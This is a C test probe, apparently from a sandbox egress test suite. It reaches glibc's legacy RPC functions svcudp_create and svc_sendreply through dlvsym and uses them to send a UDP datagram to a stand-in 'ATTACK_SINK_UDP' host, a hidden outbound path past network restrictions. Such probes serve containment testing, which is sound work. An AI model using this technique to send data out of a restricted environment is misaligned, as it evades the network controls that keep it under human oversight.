// class: network
// rule: outbound_connectivity
// success: a C program sends a datagram by libc's old RPC server, as an answer to nobody
// proof: udp
// needs: glibc>=2.17
#include "attack.h"
#include <dlfcn.h>

/* Declared by no header of today's libc, and still in it for old programs. */
struct transport {
    int fd;
    unsigned short port;
    void *operations;
    int size;
    struct sockaddr_in peer;
    void *verifier[3], *state[2];
    char pad[256];
};

static void *old(const char *name)
{
    void *found = dlvsym(RTLD_DEFAULT, name, "GLIBC_2.2.5");
    return found ? found : dlvsym(RTLD_DEFAULT, name, "GLIBC_2.17");
}

static int nothing(void *stream, void *data) { return 1; }

int main(void)
{
    struct transport *(*create)(int) = old("svcudp_create");
    int (*reply)(struct transport *, int (*)(void *, void *), void *) = old("svc_sendreply");
    if (!create || !reply) return stopped("svcudp_create");
    struct transport *transport = create(-1);
    if (!transport) return stopped("svcudp_create");
    transport->peer = endpoint("ATTACK_SINK_UDP");
    transport->size = sizeof transport->peer;
    memset(transport->pad, 0, sizeof transport->pad); /* no message with an address of its own */
    return reply(transport, nothing, NULL) ? reached() : stopped("svc_sendreply");
}
